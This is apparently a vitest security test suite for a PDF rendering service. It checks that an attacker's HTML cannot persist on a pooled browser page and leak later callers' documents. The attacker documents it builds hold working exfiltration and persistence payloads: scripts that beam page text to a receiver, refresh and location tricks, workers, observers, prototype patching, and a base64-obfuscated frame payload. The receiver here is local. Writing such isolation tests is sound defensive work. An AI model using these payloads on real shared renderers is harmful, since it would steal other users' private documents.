/**
 * One caller's document never meets the next caller's. A first document tries a delayed trick to
 * outlive its render on the pooled page (refreshes, timers, workers, observers, history and location
 * tricks, forms, bfcache); then other callers' documents render on the same page (one page, so
 * each one follows the attacker there) and must print exactly their own content at their own base
 * URL, while the attacker's loopback receiver hears nothing of them and nothing after its render.
 * The server lets documents reach loopback here, so the receiver is reachable: what is tested is the
 * page reset, not the network policy.
 *
 * Most of each case is waiting for a trick's moment, so cases run side by side, each on a stage of
 * its own while it runs: a one-page server and the receiver its attacker reports to.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { pdfrender } from './support/cli.js';
import { folderWith, removeTempDirs } from './support/files.js';
import { readPdf } from './support/pdf.js';
import { startServer, type TestServer } from './support/server.js';

/** A one-page server, and the loopback receiver its attackers report to (every request's URL). */
interface Stage {
  server: TestServer;
  receiver: Server;
  hits: string[];
  /** A script statement that sends the document's whole text and URL to the receiver, as `label`. */
  exfiltrate(label: string): string;
  /** A script statement that does that every 25 ms, for as long as anything of the document runs. */
  beacon(label: string): string;
  /** A URL of the receiver. */
  to(label: string): string;
}

/** How many cases run at once: each holds a stage (a browser of its own) while it runs. */
const stageCount = 3;
const stages: Stage[] = [];
const idle: Stage[] = [];
const waiting: Array<(stage: Stage) => void> = [];
let victims = 0;

async function openStage(): Promise<Stage> {
  const hits: string[] = [];
  const receiver = createServer((req, res) => {
    hits.push(decodeURIComponent(req.url ?? ''));
    // Every page the attacker navigates to reports whatever document it finds itself in.
    res
      .writeHead(200, { 'Content-Type': 'text/html' })
      .end(`<p>attacker page</p><script>${stage.beacon('navigated')}</script>`);
  });
  await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
  const to = (label: string) => `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/${label}`;
  const exfiltrate = (label: string) =>
    `new Image().src = '${to(label)}?' + encodeURIComponent((document.body && document.body.innerText || '') + ' @ ' + location.href)`;
  const server = await startServer({ rateLimit: 100_000, timeout: '5s', concurrency: 1, allowPrivateNetwork: true });
  const stage: Stage = {
    server,
    receiver,
    hits,
    exfiltrate,
    beacon: (label) => `setInterval(() => { ${exfiltrate(label)}; }, 25);`,
    to,
  };
  return stage;
}

/** Run `body` on a stage of its own, waiting for one to be free. */
async function onStage(body: (stage: Stage) => Promise<void>): Promise<void> {
  const stage = idle.pop() ?? (await new Promise<Stage>((resolve) => waiting.push(resolve)));
  try {
    await body(stage);
  } finally {
    const next = waiting.shift();
    if (next) next(stage);
    else idle.push(stage);
  }
}

beforeAll(async () => {
  stages.push(...(await Promise.all(Array.from({ length: stageCount }, openStage))));
  idle.push(...stages);
});

afterAll(async () => {
  for (const stage of stages) {
    await stage.server.close();
    stage.receiver.close();
  }
  await removeTempDirs();
});

/** Ask the stage's server for a PDF of `htmlContent` (with `options`); answers its status and body. */
async function renderSync(
  stage: Stage,
  htmlContent: string,
  options: Record<string, unknown> = {},
): Promise<{ status: number; body: { fileUrl: string } }> {
  const response = await fetch(`${stage.server.url}/api/pdfs/render-sync`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ htmlContent, ...options }),
  });
  return { status: response.status, body: await response.json() };
}

async function render(stage: Stage, htmlContent: string): Promise<{ status: number; text: string }> {
  const { status, body } = await renderSync(stage, htmlContent);
  if (status !== 200) return { status, text: JSON.stringify(body) };
  const pdf = new Uint8Array(await (await fetch(body.fileUrl)).arrayBuffer());
  return { status: 200, text: (await readPdf(pdf)).pages.map((page) => page.text).join('\n') };
}

/**
 * Render another caller's documents after the attacker's, one with script (it prints its own URL,
 * base, name and history) and one without, and check each printed exactly itself.
 */
async function expectVictimsIsolated(stage: Stage) {
  for (const script of [true, false]) {
    victims += 1;
    const marker = `VICTIM-${victims}`;
    const probe = `<p id="probe"></p><script>document.getElementById('probe').textContent = 'URL=' + location.href + ' BASE=' + document.baseURI + ' NAME=[' + window.name + '] HISTORY=' + history.length + ' FRAMES=' + frames.length;</script>`;
    const { status, text } = await render(
      stage,
      `<h1>${marker}</h1><p>private to this caller</p>${script ? probe : ''}`,
    );
    expect(status, text).toBe(200);
    expect(text).toContain(marker);
    expect(text).toContain('private to this caller');
    expect(text).not.toMatch(/attacker/i);
    if (script) expect(text).toContain('URL=about:blank BASE=about:blank NAME=[] HISTORY=1 FRAMES=0');
    else expect(text.replace(/\s+/g, ' ').trim()).toBe(`${marker} private to this caller`);
  }
}

/** Round trips to the receiver a witness document waits for before it prints. */
const witnessBeats = 12;

/** Nothing of any victim reached the receiver, and nothing arrives now that the attacker's render is over. */
async function expectReceiverQuiet(stage: Stage, hitsBefore: number) {
  expect(stage.hits.filter((hit) => hit.includes('VICTIM'))).toEqual([]);
  // Anything left alive beats every 25 ms, so a silence many times that long says nothing is, but
  // only if the browser was running all along: a machine too slow to run it would give a silence
  // measured on this side's clock. So the window is a witness document on the same browser beating
  // to the same receiver at the same pace, printed only once 12 of its beats came back: the browser
  // ran timers and reached the receiver for 12 beats (300 ms and more of its own time), in which a
  // leftover of the attacker's would have been heard too.
  const beats = stage.hits.length;
  const witness = `<p>witness</p><script>window.beats = 0; setInterval(() => { const beat = new Image(); beat.onload = beat.onerror = () => { window.beats += 1; }; beat.src = '${stage.to('witness')}?' + Date.now(); }, 25);</script>`;
  const { status, body } = await renderSync(stage, witness, { waitForExpression: `window.beats >= ${witnessBeats}` });
  expect(status, JSON.stringify(body)).toBe(200);
  // Counted at the receiver too: a beat refused on its way would count in the page all the same.
  expect(stage.hits.slice(beats).filter((hit) => hit.startsWith('/witness')).length).toBeGreaterThanOrEqual(
    witnessBeats,
  );
  expect(stage.hits.slice(hitsBefore).filter((hit) => !hit.startsWith('/witness'))).toEqual([]);
}

/**
 * On a stage of its own, the attacker renders `html(stage)` (whatever becomes of its own render),
 * then victims follow on the same page.
 */
function attack(html: (stage: Stage) => string, options: { waitAfter?: number } = {}): Promise<void> {
  return onStage(async (stage) => {
    await render(stage, html(stage));
    const hitsAfterAttack = stage.hits.length;
    await expectVictimsIsolated(stage);
    if (options.waitAfter) {
      // A trick timed to fire after the first victims: wait it out, then a victim again.
      await sleep(options.waitAfter);
      await expectVictimsIsolated(stage);
    }
    await expectReceiverQuiet(stage, stage.hits.length);
    expect(stage.hits.slice(hitsAfterAttack).filter((hit) => hit.includes('VICTIM'))).toEqual([]);
  });
}

describe.concurrent('a document leaves nothing on its page for the next caller (no script)', () => {
  it('meta refresh at 0 s', () =>
    attack(({ to }) => `<meta http-equiv="refresh" content="0;url=${to('refresh0')}"><p>attacker</p>`));
  it('meta refresh at 1 s', () =>
    attack(({ to }) => `<meta http-equiv="refresh" content="1;url=${to('refresh1')}"><p>attacker</p>`, {
      waitAfter: 1200,
    }));
  it('meta refresh longer than a render (3 s)', () =>
    attack(({ to }) => `<meta http-equiv="refresh" content="3;url=${to('refresh3')}"><p>attacker</p>`, {
      waitAfter: 3200,
    }));
  it('meta refresh to itself (a refresh loop)', () =>
    attack(() => `<meta http-equiv="refresh" content="1"><p>attacker</p>`, { waitAfter: 1200 }));
  it('meta refresh inside a frame', () =>
    attack(
      ({ to }) =>
        `<iframe srcdoc="<meta http-equiv=&quot;refresh&quot; content=&quot;1;url=${to('frame-refresh')}&quot;>"></iframe>`,
      {
        waitAfter: 1200,
      },
    ));
});

describe.concurrent('a document leaves nothing on its page for the next caller (script)', () => {
  it('timers: setTimeout, setInterval, requestAnimationFrame, requestIdleCallback', () =>
    attack(
      ({ exfiltrate, beacon }) => `<p>attacker</p><script>
      setTimeout(() => { ${exfiltrate('timeout')} }, 400);
      ${beacon('interval')}
      (function frame() { ${exfiltrate('raf')}; requestAnimationFrame(frame); })();
      (function idle() { requestIdleCallback(() => { ${exfiltrate('idle')}; idle(); }); })();
    </script>`,
      { waitAfter: 500 },
    ));
  it('a dedicated worker and a shared worker', () =>
    attack(
      ({ exfiltrate }) => `<p>attacker</p><script>
      const code = URL.createObjectURL(new Blob(['setInterval(() => postMessage(1), 25)']));
      new Worker(code).onmessage = () => { ${exfiltrate('worker')} };
      try { new SharedWorker(code); } catch {}
    </script>`,
    ));
  it('an observer of the document, which document.open keeps', () =>
    attack(
      ({ exfiltrate }) => `<p>attacker</p><script>
      new MutationObserver(() => { ${exfiltrate('mutation')} }).observe(document, { subtree: true, childList: true, characterData: true });
    </script>`,
    ));
  it('print media listeners and prototype changes that outlive the document', () =>
    attack(
      ({ exfiltrate }) => `<p>attacker</p><script>
      matchMedia('print').addEventListener('change', () => { ${exfiltrate('print-media')} });
      const write = Document.prototype.write;
      Document.prototype.write = function (...args) { ${exfiltrate('prototype')}; return write.apply(this, args); };
      customElements.define('x-spy', class extends HTMLElement { connectedCallback() { ${exfiltrate('custom-element')} } });
      window.name = 'attacker-name';
    </script>`,
    ));
  it('location and history tricks', () =>
    attack(
      ({ to }) => `<p>attacker</p><script>
      history.pushState({}, '', location.href);
      location.hash = 'attacker';
      setTimeout(() => { location.href = '${to('location')}'; }, 300);
      setTimeout(() => { location.replace('${to('replace')}'); }, 350);
      setTimeout(() => { history.go(-1); }, 320);
    </script>`,
      { waitAfter: 500 },
    ));
  it('a form submitted later', () =>
    attack(
      ({ to }) =>
        `<p>attacker</p><form action="${to('form')}" method="post"><input name="a" value="b"></form><script>setTimeout(() => document.forms[0].submit(), 300);</script>`,
      {
        waitAfter: 500,
      },
    ));
  it('the back-forward cache: a page that comes back when shown again', () =>
    attack(
      ({ to, exfiltrate, beacon }) => `<p>attacker</p><script>
      addEventListener('pageshow', (event) => { if (event.persisted) { ${beacon('bfcache')} } });
      addEventListener('pagehide', () => setTimeout(() => { ${exfiltrate('pagehide')} }, 300));
      setTimeout(() => { location.href = '${to('away')}'; }, 200);
    </script>`,
      { waitAfter: 500 },
    ));
  it('handlers that fire late without the document having run script before (SVG animation, media, frames)', () =>
    attack(
      ({ exfiltrate, beacon }) => `<p>attacker</p>
      <svg width="10" height="10"><rect width="10" height="10"><animate attributeName="x" from="0" to="5" begin="0.3s" dur="1s" onbegin="${beacon('svg')}" /></rect></svg>
      <iframe srcdoc="<script>parent.setInterval(parent.Function(atob('${btoa(exfiltrate('frame-timer'))}')), 25)</script>"></iframe>`,
      { waitAfter: 500 },
    ));
});

describe('the CLI: one file of a batch leaves nothing for the next', () => {
  it('refreshes, timers and stored data of one file never reach the next file, at its own folder URL', async () => {
    const probe = `<p id="probe"></p><script>document.getElementById('probe').textContent = 'URL=' + location.href + ' STORED=[' + localStorage.getItem('k') + '] SESSION=[' + sessionStorage.getItem('k') + '] NAME=[' + window.name + ']';</script>`;
    const files: Record<string, string> = {
      'a-refresh0.html': '<meta http-equiv="refresh" content="0;url=elsewhere.html"><p>attacker</p>',
      'b-victim.html': `<h1>VICTIM-B</h1>${probe}`,
      'c-refresh1.html': '<meta http-equiv="refresh" content="1;url=elsewhere.html"><p>attacker</p>',
      'd-victim.html': '<h1>VICTIM-D</h1><p>no script here</p>',
      'e-store.html':
        "<p>attacker</p><script>localStorage.setItem('k', 'leaked'); sessionStorage.setItem('k', 'leaked'); window.name = 'leaked'; history.pushState({}, '', 'elsewhere.html'); setInterval(() => document.title = 'x', 10);</script>",
      'f-victim.html': `<h1>VICTIM-F</h1>${probe}`,
      'elsewhere.html': '<p>attacker page</p>',
    };
    const dir = await folderWith(files);
    const inputs = Object.keys(files).filter((name) => name !== 'elsewhere.html');
    const run = await pdfrender(['render', ...inputs, '--out-dir', 'out', '--concurrency', '1', '--json'], {
      cwd: dir,
    });
    // An attacker's own file may fail (its refresh can fire while it prints); every victim must not.
    const summary = JSON.parse(run.stdout.toString()) as {
      documents: Array<{ input: string; exitCode: number; error?: string }>;
    };
    for (const entry of summary.documents.filter((d) => d.input.includes('victim')))
      expect(entry, entry.error).toMatchObject({ exitCode: 0 });
    const text = async (name: string) =>
      (await readPdf(await readFile(join(dir, 'out', name.replace('.html', '.pdf'))))).pages
        .map((page) => page.text)
        .join(' ');
    for (const victim of ['b-victim.html', 'f-victim.html']) {
      const printed = await text(victim);
      expect(printed).toContain(`VICTIM-${victim[0]!.toUpperCase()}`);
      expect(printed).toContain(`URL=${pathToFileURL(dir).href}/ STORED=[null] SESSION=[null] NAME=[]`);
      expect(printed).not.toContain('attacker');
    }
    expect((await text('d-victim.html')).replace(/\s+/g, ' ').trim()).toBe('VICTIM-D no script here');
  });
});
